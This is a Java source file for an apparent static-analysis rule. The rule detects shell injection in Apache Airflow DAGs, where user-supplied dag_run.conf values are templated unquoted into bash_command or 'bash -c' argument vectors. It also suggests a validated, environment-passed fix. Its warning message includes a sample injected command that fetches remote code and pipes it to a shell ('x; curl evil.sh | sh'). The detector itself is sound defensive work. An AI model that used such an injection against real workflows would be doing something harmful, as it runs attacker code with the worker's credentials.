package dev.srereview.evidence.python;

import dev.srereview.evidence.Category;
import dev.srereview.evidence.Severity;
import java.nio.charset.StandardCharsets;
import java.util.Set;
import java.util.regex.Pattern;

/**
 * shell-injection, the Airflow case: a BashOperator's {@code bash_command} that templates what the person triggering
 * the run typed ({@code {{ dag_run.conf['table'] }}}). Jinja pastes the value into the script unquoted, so anyone who
 * can trigger the DAG (the UI, the REST API) runs shell commands on the worker with its credentials. The scheduler's
 * own macros ({@code {{ ds }}}, {@code {{ run_id }}}), a value cast to a number ({@code | int}) and an argument
 * vector run with no shell are left alone.
 */
final class AirflowTemplateRules implements NodeRule {
    private static final byte[] DAG_RUN = "dag_run".getBytes(StandardCharsets.US_ASCII);
    private static final Pattern CONF = Pattern.compile("\\{\\{[^}]*\\bdag_run\\.conf\\b[^}]*}}");
    /** A value the template turns into a number ({@code | int}) cannot carry shell syntax. */
    private static final Pattern NUMERIC = Pattern.compile("\\|\\s*(int|float)\\s*}}$");
    /** Operator arguments that hold commands: a shell script, or an argument vector run with no shell. */
    private static final Set<String> COMMAND_ARGUMENTS = Set.of("bash_command", "command", "cmds", "arguments");
    private static final Set<String> SHELLS = Set.of("bash", "sh", "/bin/bash", "/bin/sh", "/usr/bin/env bash");

    @Override
    public Set<String> nodeTypes() {
        return Set.of("string");
    }

    @Override
    public void check(PyNode s, Scan scan) {
        if (!scan.role().production() || !scan.module.mentions("dag_run") || !s.textContains(DAG_RUN)
                || !scan.module.importsAny("airflow")) {
            return;
        }
        PyNode arg = s.parent;
        PyNode below = s;
        PyNode vector = null;
        PyNode element = null; // the vector's item that holds the string
        while (arg != null && (arg.is("concatenated_string") || arg.is("parenthesized_expression")
                || arg.is("binary_operator") || arg.is("list"))) {
            if (arg.is("list") && vector == null) {
                vector = arg;
                element = below;
            }
            below = arg;
            arg = arg.parent;
        }
        if (arg == null || !arg.is("keyword_argument") || arg.field("name") == null
                || !COMMAND_ARGUMENTS.contains(arg.field("name").text()) || !shellScript(arg, vector, element, s)) {
            return;
        }
        var m = CONF.matcher(s.text());
        boolean found = false;
        while (!found && m.find()) {
            found = !NUMERIC.matcher(m.group()).find();
        }
        if (!found || !scan.first("airflow-conf:" + arg.startByte)) {
            return;
        }
        String expr = m.group();
        scan.emit("PY-SHELL-002", Category.SHELL_INJECTION, Severity.P1, s,
                "`" + arg.field("name").text() + "` pastes `" + expr + "` into the shell script unquoted: whoever can "
                        + "trigger this DAG (the UI, the REST API, a CLI with conf) chooses the text, so `x; curl "
                        + "evil.sh | sh` runs on the worker with its connections and credentials.",
                "# pass the value through the environment, quoted by the shell, and check it first:\n"
                        + "env={\"SOURCE_VIEW\": \"{{ dag_run.conf.get('source_view', 'staging.sales_daily') }}\"},\n"
                        + "bash_command='[[ \"$SOURCE_VIEW\" =~ ^[a-z_]+\\.[a-z_]+$ ]] || exit 2; psql -c \"REFRESH ... $SOURCE_VIEW\"'\n"
                        + "# or use a PythonOperator that validates against an allow-list");
    }

    /**
     * Whether the templated text is run by a shell: a BashOperator's {@code bash_command}, an SSHOperator's
     * {@code command}, or the script after {@code bash -c} / {@code sh -c} in an argument vector (in the same list,
     * or in {@code arguments=} when {@code cmds=["bash", "-c"]}). A DockerOperator's or KubernetesPodOperator's
     * argument vector runs with no shell: the value is one argument, whatever it holds.
     */
    private static boolean shellScript(PyNode arg, PyNode vector, PyNode element, PyNode s) {
        String name = arg.field("name").text();
        PyNode call = arg.parent == null ? null : arg.parent.parent;
        String operator = call != null && call.is("call") ? Syntax.calleeName(call) : "";
        if (vector == null) {
            return name.equals("bash_command") || name.equals("command") && operator.equals("SSHOperator")
                    || startsWithShell(s.text().replaceFirst("^[a-zA-Z]*[\"']+", ""));
        }
        if (shellVector(vector) && vector.named().indexOf(element) >= 2) {
            return true;
        }
        PyNode cmds = name.equals("arguments") && call != null ? Syntax.keyword(call, "cmds") : null;
        return cmds != null && cmds.is("list") && shellVector(cmds) && cmds.named().size() == 2;
    }

    /** ["bash", "-c", ...]: a shell told to run the next element as a script. */
    private static boolean shellVector(PyNode list) {
        var items = list.named();
        return items.size() >= 2 && SHELLS.contains(String.valueOf(Syntax.literal(items.get(0))))
                && "-c".equals(Syntax.literal(items.get(1)));
    }

    private static boolean startsWithShell(String command) {
        return command.startsWith("bash -c ") || command.startsWith("sh -c ") || command.startsWith("/bin/sh -c ")
                || command.startsWith("/bin/bash -c ");
    }
}
